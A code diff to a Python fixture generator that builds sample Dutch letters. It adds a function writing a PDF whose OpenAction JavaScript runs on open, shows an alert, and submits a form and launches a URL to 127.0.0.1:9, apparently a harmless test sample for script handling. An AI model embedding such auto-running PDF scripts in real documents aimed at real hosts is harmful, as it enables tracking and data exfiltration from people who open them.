@@ -15,6 +15,7 @@ from reportlab.lib.styles import ParagraphStyle
 from reportlab.lib.units import mm
 from reportlab.pdfbase import pdfmetrics
 from reportlab.pdfbase.ttfonts import TTFont
+from reportlab.pdfbase.pdfdoc import PDFDictionary, PDFName, PDFString
 from reportlab.pdfgen import canvas
 from reportlab.platypus import (Image as Picture, PageBreak, Paragraph, SimpleDocTemplate, Spacer, Table,
                                 TableStyle)
@@ -158,6 +159,18 @@ def small(folder, number):
     page.save()
 
 
+def scripted(folder):
+    """A letter that runs a script when it is opened, as a hostile one would: it speaks up and calls outside."""
+    page = canvas.Canvas(str(folder / "scripted-nl.pdf"), pagesize=A4, invariant=True)
+    page.setTitle("Brief met een script")
+    page.setFont("Letter", 12)
+    page.drawString(25 * mm, 260 * mm, "Deze brief probeert een script uit te voeren.")
+    script = "app.alert('script'); this.submitForm('http://127.0.0.1:9/'); app.launchURL('http://127.0.0.1:9/');"
+    page._doc.Catalog.OpenAction = PDFDictionary({
+        "Type": PDFName("Action"), "S": PDFName("JavaScript"), "JS": PDFString(script)})
+    page.save()
+
+
 def main():
     folder = Path(sys.argv[1])
     folder.mkdir(parents=True, exist_ok=True)
@@ -166,6 +179,7 @@ def main():
     pdfmetrics.registerFontFamily("Letter", normal="Letter", bold="LetterBold")
     for key, contents in LETTERS.items():
         letter(folder, key, *contents)
+    scripted(folder)
     (folder / "consumption.csv").write_text("maand;kWh\njanuari;312\nfebruari;287\nmaart;240\n", encoding="utf-8")
     if "--small" in sys.argv:
         for number in range(int(sys.argv[sys.argv.index("--small") + 1])):
